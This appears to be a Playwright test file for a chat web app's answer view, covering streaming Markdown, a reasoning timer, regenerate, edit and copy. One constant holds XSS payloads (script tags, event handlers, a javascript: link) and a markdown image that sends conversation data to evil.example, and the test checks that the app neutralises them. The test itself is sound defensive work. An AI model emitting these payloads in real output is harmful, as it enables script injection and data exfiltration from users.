"""Answers as a person sees them: Markdown while it streams, model output made
inert, the Thinking panel's clock, and the buttons under messages."""

import re

import pytest
from playwright.async_api import expect

from tests.helpers.browser import screenshot
from tests.helpers.factories import jpeg_bytes
from tests.helpers.fakeupstream import Scripted, chunk

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

DONE = "data: [DONE]\n\n"
VL = "alibaba/qwen3-vl-32b-thinking"
INSTRUCT = "alibaba/qwen3-vl-32b-instruct"

MARKDOWN = """Here is what I see:

- a **fern**, young
- a clay pot

| part | colour |
| --- | --- |
| leaf | green |

```
water: weekly
```
"""

XSS = """<script>window.pwned = 'script'</script>

<img src=x onerror="window.pwned = 'img'">

Inline: <img src=x onerror="window.pwned = 'inline'"> and <iframe src="https://evil.example/f"></iframe>

[press me](javascript:window.pwned='link') and [a fine link](https://example.org/)

<a href="https://example.org/" onclick="window.pwned='onclick'">handler</a>

![chart](https://evil.example/?q=secret-from-the-conversation)

<svg onload="window.pwned='svg'"></svg><form action="https://evil.example/"><button>Go</button></form>
"""


def answer(text, **kwargs):
    return Scripted(events=[chunk({"content": text}, finish="stop", **kwargs), DONE])


async def ask(page, text, model=VL):
    await page.get_by_label("Model").select_option(model)
    await page.get_by_label("Your question").fill(text)
    await page.get_by_label("Your question").press("Enter")


async def test_answer_is_rendered_as_markdown_while_it_streams(signed_in, fake_upstream_server):
    page = signed_in
    half = len(MARKDOWN) // 2
    fake_upstream_server.enqueue(
        Scripted(
            events=[
                chunk({"content": MARKDOWN[:half]}),
                0.6,
                chunk({"content": MARKDOWN[half:]}, finish="stop"),
                DONE,
            ]
        )
    )
    await ask(page, "What is in the photo?")
    answer_el = page.locator(".message.assistant .answer")
    # Mid-stream the list is already a list, not asterisks and dashes.
    await expect(answer_el.locator("li strong")).to_have_text("fern")
    await expect(page.locator(".message.assistant")).to_have_attribute("data-status", "streaming")
    await expect(page.locator(".message.assistant")).to_have_attribute("data-status", "completed")
    await expect(answer_el.locator("td").first).to_have_text("leaf")
    await expect(answer_el.locator("pre code")).to_have_text("water: weekly\n")
    await screenshot(page, "answer-markdown")
    await page.reload()
    await expect(page.locator(".message.assistant .answer table")).to_have_count(1)


async def test_model_output_is_rendered_inert(signed_in, fake_upstream_server):
    page = signed_in
    requested = []
    page.on("request", lambda request: requested.append(request.url))
    fake_upstream_server.enqueue(answer(XSS))
    await ask(page, "Describe it")
    reply = page.locator(".message.assistant")
    await expect(reply).to_have_attribute("data-status", "completed")
    for check in (reply, None):
        if check is None:  # the same, as saved history
            await page.reload()
            reply = page.locator(".message.assistant")
            await expect(reply).to_have_attribute("data-status", "completed")
        answer_el = reply.locator(".answer")
        await expect(answer_el.locator("script, img, iframe, svg, form, button")).to_have_count(0)
        await expect(answer_el.locator("[onclick], [onerror], [onload]")).to_have_count(0)
        await expect(answer_el.get_by_text("Picture not shown: chart")).to_be_visible()
        await expect(answer_el.get_by_role("link", name="a fine link")).to_have_attribute(
            "rel", "noopener noreferrer nofollow ugc"
        )
        assert await answer_el.locator("a", has_text="press me").get_attribute("href") is None
        # Raw HTML is shown as the text it is.
        await expect(answer_el).to_contain_text("<script>")
        await answer_el.locator("a", has_text="press me").click()
    assert await page.evaluate("window.pwned") is None
    assert not [url for url in requested if "evil.example" in url]
    assert page.errors == []


async def test_thinking_panel_counts_the_seconds_then_folds(signed_in, fake_upstream_server):
    page = signed_in
    fake_upstream_server.enqueue(
        Scripted(
            events=[
                chunk({"reasoning_content": "Looking at the leaves."}),
                2.3,
                chunk({"content": "A fern."}, finish="stop"),
                DONE,
            ]
        )
    )
    await ask(page, "What plant?")
    thinking = page.locator(".message.assistant .thinking")
    await expect(thinking.locator("summary")).to_have_text(re.compile(r"Thinking… [12] s"))
    assert await thinking.get_attribute("open") is not None
    await screenshot(page, "thinking")
    await expect(thinking.locator("summary")).to_have_text(re.compile(r"Thought for [23] s"))
    assert await thinking.get_attribute("open") is None
    await thinking.locator("summary").click()
    await expect(thinking.locator(".reasoning")).to_have_text("Looking at the leaves.")


async def test_regenerate_with_another_model_keeps_the_earlier_answer(
    signed_in, fake_upstream_server
):
    page = signed_in
    fake_upstream_server.enqueue(answer("A fern."))
    fake_upstream_server.enqueue(answer("A Boston fern.", model=INSTRUCT))
    await ask(page, "What plant?")
    first = page.locator(".message.assistant").first
    await expect(first).to_have_attribute("data-status", "completed")
    await page.get_by_label("Model").select_option(INSTRUCT)
    await first.get_by_role("button", name="Regenerate with Qwen3 VL").click()
    replies = page.locator(".message.assistant")
    await expect(replies).to_have_count(2)
    await expect(replies.last.locator(".answer")).to_have_text("A Boston fern.")
    await expect(replies.first.locator(".answer")).to_be_hidden()
    await replies.first.get_by_role("button", name=re.compile("Earlier answer")).click()
    await expect(replies.first.locator(".answer")).to_have_text("A fern.")
    await screenshot(page, "regenerated")
    assert [r["json"]["model"] for r in fake_upstream_server.requests] == [VL, INSTRUCT]
    assert (
        fake_upstream_server.requests[0]["json"]["messages"]
        == fake_upstream_server.requests[1]["json"]["messages"]
    )


async def test_edit_and_resend_puts_the_question_and_photo_back(
    signed_in, fake_upstream_server, tmp_path
):
    page = signed_in
    picture = tmp_path / "plant.jpg"
    picture.write_bytes(jpeg_bytes((800, 600)))
    fake_upstream_server.enqueue(answer("A fern."))
    fake_upstream_server.enqueue(answer("It is a fern in a pot."))
    await page.locator("#photo-input").set_input_files(str(picture))
    await expect(page.locator(".preview[data-image-id]")).to_have_count(1)
    await ask(page, "What plant?")
    await expect(page.locator(".message.assistant")).to_have_attribute("data-status", "completed")
    await page.locator(".message.user").get_by_role("button", name="Edit & resend").click()
    question = page.get_by_label("Your question")
    await expect(question).to_have_value("What plant?")
    await expect(question).to_be_focused()
    await expect(page.locator(".preview[data-image-id]")).to_have_count(1)
    await question.fill("What plant, and what pot?")
    await question.press("Enter")
    await expect(page.locator(".message.assistant").last.locator(".answer")).to_have_text(
        "It is a fern in a pot."
    )
    first, second = fake_upstream_server.requests
    asked = second["json"]["messages"][-1]["content"]
    assert {"type": "text", "text": "What plant, and what pot?"} in asked
    assert [p["type"] for p in asked].count("image_url") == 1


async def test_copy_puts_the_answer_on_the_clipboard(signed_in, fake_upstream_server):
    page = signed_in
    await page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    fake_upstream_server.enqueue(answer("A **fern**."))
    await ask(page, "What plant?")
    reply = page.locator(".message.assistant")
    await expect(reply).to_have_attribute("data-status", "completed")
    await reply.get_by_role("button", name="Copy").click()
    await expect(reply.get_by_role("button", name="Copied")).to_be_visible()
    assert await page.evaluate("navigator.clipboard.readText()") == "A **fern**."
